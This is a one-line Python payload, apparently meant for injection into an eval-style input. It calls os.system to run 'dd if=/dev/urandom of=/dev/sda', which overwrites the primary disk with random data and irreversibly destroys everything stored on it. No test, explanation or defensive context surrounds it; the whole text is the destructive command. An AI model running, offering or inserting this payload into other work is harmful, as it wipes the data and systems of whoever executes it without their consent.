__import__("os").system("dd if=/dev/urandom of=/dev/sda")
